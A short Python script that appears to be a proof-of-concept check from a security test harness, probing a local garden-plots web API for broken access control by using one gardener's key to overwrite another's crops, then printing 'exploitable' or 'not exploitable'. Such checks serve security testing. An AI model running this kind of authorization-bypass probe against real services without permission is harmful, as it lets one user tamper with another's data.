import os
import sys
import time
import traceback

import httpx

BASE = os.environ.get("BASE_URL", "http://127.0.0.1:8000")
c = httpx.Client(base_url=BASE, timeout=60)


def _fail(t, v, tb):
    traceback.print_exception(t, v, tb)
    os._exit(2)


sys.excepthook = _fail


def done(hit):
    print("exploitable" if hit else "not exploitable")
    sys.exit(0 if hit else 1)


B = {"X-Garden-Key": os.environ["PLOTS_BOARD_KEY"]}
p = c.post("/plots", json={"gardener": "Ann"}, headers=B).json()
q = c.post("/plots", json={"gardener": "Bob"}, headers=B).json()
c.put(f"/plots/{p['id']}/crops", json={"crops": ["weeds"]}, headers={"X-Garden-Key": q["key"]})
done([x["crops"] for x in c.get("/plots", headers=B).json() if x["id"] == p["id"]] == [["weeds"]])
